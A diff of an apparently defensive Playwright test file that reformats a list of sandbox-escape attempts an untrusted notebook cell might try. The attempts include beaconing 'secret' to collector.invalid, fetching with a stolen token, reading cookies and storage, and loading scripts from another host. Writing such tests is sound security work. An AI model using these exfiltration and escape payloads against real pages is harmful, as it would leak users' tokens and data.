@@ -1,6 +1,15 @@
 import type { Browser, Page } from "playwright";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { type App, cellText, createNotebook, notebookFrame, openPage, startApp, startBrowser, tokenOf } from "./app.ts";
+import {
+  type App,
+  cellText,
+  createNotebook,
+  notebookFrame,
+  openPage,
+  startApp,
+  startBrowser,
+  tokenOf,
+} from "./app.ts";
 
 /**
  * A stranger's notebook tries everything a page could try. Each attempt is a cell that displays either
@@ -40,17 +49,17 @@ function attempts(origin: string, token: string): Record<string, string> {
     "fetch with credentials": `fetch("${origin}/api/health", { credentials: "include" }).then((r) => r.status)`,
     "fetch with a stolen token": `fetch("${origin}/api/health", { headers: { "x-walkforward-token": "${token}" } }).then((r) => r.status)`,
     "fetch in no-cors mode": `fetch("${origin}/api/lake", { mode: "no-cors" }).then((r) => r.type)`,
-    "XMLHttpRequest": `new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open("GET", "${origin}/api/health"); request.onload = () => resolve(request.status); request.onerror = () => reject(new Error("no answer")); request.send(); })`,
-    "WebSocket": `new Promise((resolve, reject) => { const socket = new WebSocket("${origin.replace("http", "ws")}/api"); socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("no socket")); })`,
-    "EventSource": `new Promise((resolve, reject) => { const source = new EventSource("${origin}/api/jobs/events"); source.onopen = () => resolve("open"); source.onerror = () => reject(new Error("no events")); })`,
-    "beacon": `Promise.resolve(navigator.sendBeacon("https://collector.invalid/x", "secret")).then(() => new Promise((resolve, reject) => addEventListener("securitypolicyviolation", (e) => reject(new Error(e.violatedDirective)), { once: true })))`,
+    XMLHttpRequest: `new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open("GET", "${origin}/api/health"); request.onload = () => resolve(request.status); request.onerror = () => reject(new Error("no answer")); request.send(); })`,
+    WebSocket: `new Promise((resolve, reject) => { const socket = new WebSocket("${origin.replace("http", "ws")}/api"); socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("no socket")); })`,
+    EventSource: `new Promise((resolve, reject) => { const source = new EventSource("${origin}/api/jobs/events"); source.onopen = () => resolve("open"); source.onerror = () => reject(new Error("no events")); })`,
+    beacon: `Promise.resolve(navigator.sendBeacon("https://collector.invalid/x", "secret")).then(() => new Promise((resolve, reject) => addEventListener("securitypolicyviolation", (e) => reject(new Error(e.violatedDirective)), { once: true })))`,
     "parent document": `Promise.resolve(parent.document.title)`,
     "top document": `Promise.resolve(top.document.body.innerHTML)`,
-    "localStorage": `Promise.resolve(localStorage.length)`,
-    "sessionStorage": `Promise.resolve(sessionStorage.length)`,
-    "cookies": `Promise.resolve(document.cookie)`,
-    "indexedDB": `new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = () => resolve("open"); open.onerror = () => reject(open.error); })`,
-    "caches": `caches.open("x").then(() => "open")`,
+    localStorage: `Promise.resolve(localStorage.length)`,
+    sessionStorage: `Promise.resolve(sessionStorage.length)`,
+    cookies: `Promise.resolve(document.cookie)`,
+    indexedDB: `new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = () => resolve("open"); open.onerror = () => reject(open.error); })`,
+    caches: `caches.open("x").then(() => "open")`,
     "service worker": `navigator.serviceWorker.register("${origin}/assets/x.js").then(() => "registered")`,
     "navigate the top window": `(() => { top.location.href = "https://elsewhere.invalid/"; return Promise.resolve("navigated"); })()`,
     "pop-up": `Promise.resolve(window.open("https://elsewhere.invalid/") ?? Promise.reject(new Error("no window")))`,
@@ -62,7 +71,7 @@ function attempts(origin: string, token: string): Record<string, string> {
     "script from another host": load("script", "src", "https://collector.invalid/x.js"),
     "import from another host": `import(["https:", "", "collector.invalid", "x.js"].join("/")).then(() => "imported")`,
     "frame of the shell": `new Promise((resolve, reject) => { const frame = document.createElement("iframe"); frame.src = "${origin}/"; frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML || Promise.reject(new Error("empty"))) } catch (e) { reject(e) } }; document.body.append(frame); })`,
-    "RTCPeerConnection": `Promise.resolve(new RTCPeerConnection())`,
+    RTCPeerConnection: `Promise.resolve(new RTCPeerConnection())`,
   };
   for (const path of API_PATHS) {
     all[`script tag at ${path}`] = load("script", "src", `${origin}${path}`);
@@ -128,7 +137,8 @@ describe("a stranger's notebook", () => {
     await openTrusted(page, "Forger");
     await notebookFrame(page).getByText("ports received: 0").waitFor();
     const stored = await page.evaluate(
-      async ([address, token]) => (await fetch(address, { headers: { "x-walkforward-token": token } })).json(),
+      async ([address, token]) =>
+        (await fetch(address, { headers: { "x-walkforward-token": token } })).json(),
       [`${app.url}/api/notebooks/${id}`, await tokenOf(page)],
     );
     expect(stored.text).toBe(forge);
